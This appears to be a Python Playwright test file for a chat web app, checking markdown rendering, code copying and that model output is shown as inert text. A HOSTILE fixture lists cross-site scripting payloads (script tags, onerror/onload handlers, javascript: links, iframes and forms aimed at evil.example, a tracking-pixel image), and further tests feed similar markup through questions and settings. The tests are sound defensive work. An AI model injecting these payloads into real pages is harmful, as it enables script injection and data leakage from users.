"""How answers look, and that what a model writes can do no harm."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from .chat_page import ChatPage
from .fake_server import Answer, FakeServer, Gate

pytestmark = pytest.mark.browser

CODE = 'def greet(name):\n    return f"hello {name}"'
HOSTILE = """
<script>document.title = 'pwned'</script>
<img src="https://evil.example/raw.png" onerror="document.title = 'pwned'">
<svg onload="document.title = 'pwned'"><style>body { display: none }</style></svg>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="a"></form>
<p style="position: fixed; inset: 0" onclick="document.title = 'pwned'">raw</p>
<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">

[click](javascript:document.title='pwned') [data](data:text/html,<script>1</script>) [ok](https://good.example/a)

![remote](https://evil.example/pixel.png) ![data](data:image/svg+xml,<svg/onload=alert(1)>)

[ref]: javascript:alert(1)

| a | b |
|---|---|
| <img src=x onerror=alert(1)> | `<b>` |

```"><script>document.title='pwned'</script>
</code></pre><script>document.title = 'pwned'</script>
```

The end.
"""


def answer_with(page: Page, server: FakeServer, *steps: str) -> ChatPage:
    chat = ChatPage(page).open_and_ask(server, "Show me", Answer(steps))
    expect(chat.answer.get_by_role("button", name="Copy answer")).to_be_visible()
    return chat


def test_markdown_becomes_structure(page: Page, server: FakeServer) -> None:
    table = "| l | r |\n|:--|--:|\n| 1 | 2 |\n"
    chat = answer_with(page, server, f"# Title\n\n3. one\n4. two\n\nline\nbreak **bold**\n\n{table}")
    expect(chat.prose.get_by_role("heading", name="Title")).to_be_visible()
    expect(chat.prose.locator("ol")).to_have_attribute("start", "3")
    expect(chat.prose.locator("li")).to_have_text(["one", "two"])
    expect(chat.prose.locator("p br")).to_have_count(1)
    expect(chat.prose.locator("strong")).to_have_text("bold")
    expect(chat.prose.locator("td").nth(1)).to_have_css("text-align", re.compile("right"))


def test_code_block_is_highlighted_and_can_be_copied(page: Page, server: FakeServer, context: BrowserContext) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    chat = answer_with(page, server, f"Here:\n\n```python\n{CODE}\n```\n")
    block = chat.prose.locator(".code-block")
    expect(block.locator(".code-head")).to_contain_text("python")
    keyword = block.locator(".hljs-keyword", has_text="def")
    plain = block.locator("code")
    assert keyword.evaluate("e => getComputedStyle(e).color") != plain.evaluate("e => getComputedStyle(e).color")
    block.get_by_role("button", name="Copy code").click()
    expect(block.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == CODE
    expect(block.get_by_text("Copied")).to_be_hidden()


def test_copy_works_where_the_clipboard_interface_is_missing(
    page: Page, server: FakeServer, context: BrowserContext
) -> None:
    context.grant_permissions(["clipboard-read"])
    page.add_init_script("navigator.clipboard.writeText = () => Promise.reject(new Error('no'))")
    chat = answer_with(page, server, "The **answer**.")
    chat.answer.get_by_role("button", name="Copy answer").click()
    expect(chat.answer.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "The **answer**."


def test_code_of_an_unknown_language_stays_plain(page: Page, server: FakeServer) -> None:
    chat = answer_with(page, server, "```brainf+\n<b>+++</b>\n```")
    expect(chat.prose.locator("code")).to_have_text("<b>+++</b>\n")
    expect(chat.prose.locator("code span")).to_have_count(0)


def test_finished_blocks_are_not_rebuilt_while_the_answer_grows(page: Page, server: FakeServer) -> None:
    gate = Gate()
    server.answers.append(Answer(["First paragraph.\n\n```python\na = 1\n", gate, "b = 2\n```\n\nLast."]))
    chat = ChatPage(page).open_ready(server)
    chat.ask("Go")
    expect(chat.prose.locator("code")).to_contain_text("a = 1")
    first = chat.prose.locator("p").first.element_handle()
    copy = chat.prose.get_by_role("button", name="Copy code").element_handle()
    gate.open()
    expect(chat.prose).to_contain_text("Last.")
    expect(chat.prose.locator("code")).to_contain_text("b = 2")
    assert first.evaluate("node => node.isConnected")
    assert copy.evaluate("node => node.isConnected")


def test_pieces_and_whole_give_the_same_page(page: Page, server: FakeServer) -> None:
    text = (
        f"# A\n\n- x\n  - y\n\n```python\n{CODE}\n```\n\n[a][1]\n\n| a |\n|---|\n| b |\n\n[1]: https://good.example/\n"
    )
    server.answers.extend([Answer(list(text)), Answer([text])])
    chat = ChatPage(page).open_ready(server)
    for count in (1, 2):
        chat.ask("Show me")
        expect(chat.answers).to_have_count(count)
        expect(chat.answer.get_by_role("button", name="Copy answer")).to_be_visible()
    pieces, whole = (chat.answers.nth(i).locator(".prose").inner_html() for i in range(2))
    assert pieces == whole
    assert "https://good.example/" in whole


def test_script_and_markup_in_an_answer_are_inert(page: Page, server: FakeServer) -> None:
    chat = answer_with(page, server, HOSTILE)
    expect(chat.prose).to_contain_text("The end.")
    # shown as the text it is
    expect(chat.prose).to_contain_text("<script>document.title = 'pwned'</script>")
    expect(page).to_have_title("Garden helper")
    forbidden = "script, img, svg:not(.icon), style, iframe, form, input, link, base, [style], [onclick], [onerror]"
    assert chat.prose.locator(forbidden).count() == 0
    addresses = [link.get_attribute("href") for link in chat.prose.locator("a[href]").all()]
    assert all(address and address.startswith("https://") for address in addresses), addresses
    assert "https://good.example/a" in addresses


def test_links_open_in_a_new_tab_that_learns_nothing(page: Page, server: FakeServer) -> None:
    chat = answer_with(page, server, "[site](https://good.example/) and <https://other.example/>")
    links = chat.prose.locator("a")
    expect(links).to_have_count(2)
    for link in links.all():
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_remote_image_makes_no_request_and_becomes_a_link(page: Page, server: FakeServer) -> None:
    # the `context` fixture fails this test if any request leaves
    chat = answer_with(page, server, "![A cat](https://evil.example/cat.png?secret=1)")
    expect(chat.prose.locator("img")).to_have_count(0)
    expect(chat.prose.get_by_role("link", name="Image: A cat")).to_be_visible()


def test_markup_in_a_question_is_text(page: Page, server: FakeServer) -> None:
    server.answers.append(Answer(["Yes."]))
    chat = ChatPage(page).open_ready(server)
    chat.ask("<img src=x onerror=alert(1)> **not bold**")
    expect(chat.questions).to_have_text("<img src=x onerror=alert(1)> **not bold**")


def test_markup_in_the_settings_is_text(page: Page, server: FakeServer) -> None:
    server.settings = {"title": "<b>T</b>", "system_prompt": "<img src=x>", "model_name": "<i>m</i>"}
    ChatPage(page).open_ready(server)
    expect(page.get_by_role("heading", level=1)).to_have_text("<b>T</b>")
    expect(page.locator("#about-instructions")).to_have_text("<img src=x>")
